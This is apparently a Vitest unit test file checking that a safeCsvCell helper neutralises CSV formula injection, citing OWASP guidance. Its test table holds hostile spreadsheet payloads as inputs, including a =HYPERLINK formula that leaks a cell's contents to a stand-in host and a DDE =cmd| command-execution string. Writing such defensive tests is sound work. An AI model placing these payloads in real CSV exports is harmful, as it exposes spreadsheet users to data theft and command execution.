import { describe, expect, it } from 'vitest'
import { safeCsvCell } from '../../server/utils/csv-cell'

// OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells beginning with
// = + - @, tab (0x09) or carriage return (0x0D) are read as formulas by spreadsheets; the advice
// is to prepend a single quote. The payloads below follow the page's examples (=HYPERLINK, =cmd|,
// @SUM), quoted from memory.

describe('safeCsvCell', () => {
  it.each([
    ['=HYPERLINK("http://example.invalid?leak="&A1,"Error")', '\'=HYPERLINK("http://example.invalid?leak="&A1,"Error")'],
    ['=cmd|\' /C calc\'!A0', '\'=cmd|\' /C calc\'!A0'],
    ['+1+cmd', '\'+1+cmd'],
    ['-2+3+cmd', '\'-2+3+cmd'],
    ['@SUM(1+9)*cmd', '\'@SUM(1+9)*cmd'],
    ['\t=1+1', '\'\t=1+1'],
    ['\r=1+1', '\'\r=1+1'],
  ])('neutralises %j', (input, expected) => {
    expect(safeCsvCell(input)).toBe(expected)
  })

  it('keeps numbers as numbers, negative ones included', () => {
    expect(safeCsvCell(-0.12)).toBe(-0.12)
    expect(safeCsvCell('-0.12')).toBe('-0.12')
    expect(safeCsvCell('+3')).toBe('+3')
    expect(safeCsvCell('-1.5e-3')).toBe('-1.5e-3')
    expect(safeCsvCell(18)).toBe(18)
  })

  it('leaves ordinary text, dates and JSON alone, and empties null', () => {
    expect(safeCsvCell('Isolate the power')).toBe('Isolate the power')
    expect(safeCsvCell('2026-01-12T08:02:00.000Z')).toBe('2026-01-12T08:02:00.000Z')
    expect(safeCsvCell('{"reason":"=1+1"}')).toBe('{"reason":"=1+1"}')
    expect(safeCsvCell(null)).toBe('')
    expect(safeCsvCell('- a list item')).toBe('\'- a list item')
  })
})
